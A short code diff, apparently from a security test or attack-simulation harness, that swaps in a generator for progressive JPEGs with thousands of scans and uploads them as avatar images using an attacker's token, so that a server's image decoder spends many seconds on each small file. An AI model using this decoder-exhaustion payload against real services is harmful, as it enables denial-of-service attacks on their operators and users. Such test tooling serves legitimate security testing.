@@ -1,5 +1,5 @@
 import { randomBytes, randomUUID } from 'node:crypto'
-import { drawScans } from '../progressive-jpeg.ts'
+import { drawManyScans } from '../many-scans.ts'
 import { attackerAddress, type Message, send, type Target } from './wire.ts'
 
 /** What attackers know or have taken: sign-ins of their own, and what is written in public. */
@@ -19,10 +19,13 @@ async function outcome(target: Target, message: Message): Promise<string> {
   return String(await send(target, { ...message, headers }))
 }
 
-const jpeg = drawScans(280)
+/** Ninety kilobytes that would take a decoder many seconds, and the most that it is made to read. */
+const jpegs = [drawManyScans(6_000, 6_000, 280), drawManyScans(3_000, 3_000, 100)]
+let uploads = 0
 
-/** Ninety kilobytes that take a decoder many seconds. */
 export function uploadScans(target: Target, { token }: Loot): Promise<string> {
+  uploads += 1
+  const jpeg = jpegs[uploads % jpegs.length] ?? Buffer.of()
   const lines = '--x\r\nContent-Disposition: form-data; name="avatar"; filename="a.jpg"\r\n\r\n'
   return outcome(target, {
     method: 'POST',
